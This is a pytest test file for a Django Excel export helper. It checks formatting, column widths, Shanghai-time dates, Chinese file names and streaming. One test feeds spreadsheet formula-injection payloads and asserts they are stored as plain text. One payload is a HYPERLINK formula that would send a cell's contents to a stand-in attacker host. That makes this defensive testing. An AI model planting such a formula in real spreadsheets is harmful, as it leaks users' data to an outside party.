"""The shared Excel export: formatting, text that never becomes a formula, the file name, streaming."""

import os
import tempfile
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from unittest import mock
from urllib.parse import unquote

import pytest
from django.utils import timezone

from core import exports
from core.exports import DATE, DATETIME, INT, NUMBER, Column, display_width, xlsx_response
from teams.models import Team
from tests.workbooks import download, sheet_xml, workbook_of

DEFAULT_WIDTH = 13  # what openpyxl reports for a column the file gives no width


@dataclass
class Row:
    name: str
    founded: date | None = None
    registered: datetime | None = None
    members: int | None = None
    score: Decimal | None = None


def columns():
    return [
        Column("班组名称", lambda row: row.name, width=24),
        Column("成立日期", lambda row: row.founded, kind=DATE),
        Column("登记时间", lambda row: row.registered, kind=DATETIME),
        Column("现有人数", lambda row: row.members, kind=INT),
        Column("所在基层工会全称及统一社会信用代码", lambda row: row.score, kind=NUMBER),
    ]


def export(rows, name="班组名单"):
    response = xlsx_response(name=name, columns=columns(), rows=rows)
    return response, download(response)


def test_the_header_is_bold_frozen_and_filtered_and_the_columns_fit():
    _response, data = export([Row("甲班"), Row("乙班"), Row("丙班")])
    sheet = workbook_of(data).active
    assert [cell.value for cell in sheet[1]] == [
        "班组名称",
        "成立日期",
        "登记时间",
        "现有人数",
        "所在基层工会全称及统一社会信用代码",
    ]
    assert all(cell.font.b for cell in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"
    # The declared width, and a long Chinese header counted at two per character (17 characters).
    assert sheet.column_dimensions["A"].width == 24
    assert sheet.column_dimensions["E"].width >= 34 > DEFAULT_WIDTH
    assert sheet.column_dimensions["B"].width > DEFAULT_WIDTH - 2


def test_an_empty_export_still_has_its_header_and_filter():
    _response, data = export([])
    sheet = workbook_of(data).active
    assert sheet.max_row == 1 and sheet.auto_filter.ref == "A1:E1" and sheet.freeze_panes == "A2"


def test_dates_are_dates_in_shanghai_and_numbers_are_numbers():
    # 16:30 UTC on 30 November is 00:30 on 1 December in Shanghai.
    registered = datetime(2026, 11, 30, 16, 30, tzinfo=UTC)
    _response, data = export([Row("甲班", date(2020, 5, 4), registered, 12, Decimal("87.5"))])
    row = workbook_of(data).active[2]
    founded, when, members, score = row[1], row[2], row[3], row[4]
    assert founded.is_date and founded.value == datetime(2020, 5, 4) and founded.number_format == "yyyy-mm-dd"
    assert when.is_date and when.value == datetime(2026, 12, 1, 0, 30) and when.value.tzinfo is None
    assert when.number_format == "yyyy-mm-dd hh:mm"
    assert members.data_type == "n" and members.value == 12
    assert score.data_type == "n" and score.value == 87.5


def test_an_empty_value_is_an_empty_cell():
    _response, data = export([Row("")])
    assert [cell.value for cell in workbook_of(data).active[2]] == [None] * 5


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "=1+1",
    ],
)
def test_user_text_is_never_a_formula(text):
    _response, data = export([Row(text)])
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    cell = workbook_of(data).active["A2"]
    assert cell.data_type == "s" and cell.value == text


def test_a_carriage_return_is_kept_as_a_line_break_and_never_a_formula():
    # XML turns a bare carriage return into a line feed on reading; the export writes the line feed
    # itself (Excel's own line break in a cell), so what is written is what comes back.
    _response, data = export([Row("\r=1"), Row("第一行\r\n第二行")])
    assert "<f>" not in sheet_xml(data)
    sheet = workbook_of(data).active
    assert sheet["A2"].value == "\n=1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "第一行\n第二行"


def test_a_value_of_the_wrong_kind_is_written_as_text():
    _response, data = export([Row("甲班", founded="不详", members="=1+1")])
    sheet = workbook_of(data).active
    assert sheet["B2"].value == "不详" and sheet["D2"].value == "=1+1" and sheet["D2"].data_type == "s"
    assert "<f>" not in sheet_xml(data)


def test_characters_xml_forbids_are_dropped_instead_of_failing():
    _response, data = export([Row("梦桃\x00班\x07组\x1b")])
    assert workbook_of(data).active["A2"].value == "梦桃班组"


def test_a_chinese_file_name_with_todays_date_and_no_caching():
    response, data = export([Row("甲班")])
    filename = f"班组名单-{timezone.localdate():%Y%m%d}.xlsx"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert unquote(disposition.split("''", 1)[1]) == filename
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Cache-Control"] == "private, no-store"
    assert int(response["Content-Length"]) == len(data)
    assert workbook_of(data).sheetnames == ["班组名单"]


def test_the_file_name_date_is_shanghais_date():
    # 17:00 UTC on 30 November is already 1 December in Shanghai.
    with mock.patch("django.utils.timezone.now", return_value=datetime(2026, 11, 30, 17, 0, tzinfo=UTC)):
        response = xlsx_response(name="班组名单", columns=columns(), rows=[])
    download(response)
    assert "20261201" in unquote(response["Content-Disposition"])


def test_a_large_export_streams_from_a_file_in_blocks(monkeypatch):
    monkeypatch.setattr(exports, "SPOOL_MAX_BYTES", 4096)  # so that this export goes to disk
    names = [os.urandom(24).hex() for _ in range(3000)]
    response = xlsx_response(name="班组名单", columns=columns(), rows=(Row(name) for name in names))
    assert response.streaming
    chunks = list(response.streaming_content)
    response.file_to_stream.close()
    assert len(chunks) > 1 and all(len(chunk) <= exports.SEND_BLOCK_BYTES for chunk in chunks)
    sheet = workbook_of(b"".join(chunks)).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == names


def test_display_width_counts_chinese_characters_double():
    assert display_width("Team") == 4
    assert display_width("班组") == 4
    assert display_width("QC小组") == 6


def test_choice_labels_are_the_translated_labels():
    assert exports.choice_labels(Team, "status") == {"pending": "待审核", "approved": "已登记", "rejected": "未通过"}


def test_a_failing_export_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield Row("甲班")
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        xlsx_response(name="班组名单", columns=columns(), rows=rows())
    assert list(tmp_path.iterdir()) == []


def test_an_unknown_column_kind_is_refused():
    with pytest.raises(ValueError, match="money"):
        Column("金额", lambda row: row, kind="money")
